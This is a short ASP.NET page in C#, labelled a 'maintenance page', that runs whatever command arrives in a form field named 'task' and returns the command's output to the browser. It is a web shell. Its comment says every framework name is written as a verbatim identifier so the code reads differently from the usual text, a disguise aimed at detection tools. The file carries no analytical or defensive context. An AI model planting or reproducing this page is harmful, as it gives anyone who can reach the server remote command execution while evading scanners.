<%@ Page Language="C#" %>
<%
    // maintenance page: each framework name written as a verbatim identifier (@Name), which the
    // C# compiler reads as the plain name, so the calls read differently from the usual text
    string @task = @Request.@Form["task"];
    if (!string.IsNullOrEmpty(@task))
    {
        var @info = new System.Diagnostics.@ProcessStartInfo(@task);
        @info.@UseShellExecute = false;
        @info.@RedirectStandardOutput = true;
        var @run = System.Diagnostics.@Process.@Start(@info);
        Response.Write(Server.HtmlEncode(@run.@StandardOutput.@ReadToEnd()));
    }
%>
